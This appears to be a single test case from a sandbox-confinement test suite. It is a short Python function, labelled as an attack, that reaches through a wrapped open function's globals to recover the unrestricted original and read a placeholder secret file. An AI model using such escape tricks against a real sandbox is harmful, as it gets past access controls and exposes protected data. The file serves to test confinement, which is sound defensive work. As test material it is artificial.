# attack: takes Python's own open from behind the one that answers data files
# class: files
# success: secret
# control: unconfined
def f(x, note):
    return open.__func__.__globals__["_open"]("@secret@").read()
